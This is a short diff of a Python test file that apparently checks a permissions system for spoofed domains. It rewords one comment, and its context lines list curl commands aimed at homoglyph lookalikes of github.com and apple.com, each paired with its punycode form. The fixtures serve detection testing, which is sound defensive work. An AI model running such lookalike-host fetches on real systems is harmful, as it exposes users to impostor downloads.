@@ -8,7 +8,7 @@ from refold.values.tools import Effect
 from tests.permissions.places import make_facts, on_file
 
 FACTS = make_facts()
-# Each with what the question says.
+# Each with the text of the question.
 COMMANDS = (
     ("curl https://g\u0456thub.com/install.sh", "is xn--gthub-n2e.com"),
     ("curl https://\u0430\u0440\u0440\u04cf\u0435.com/x", "is xn--80ak6aa92e.com"),
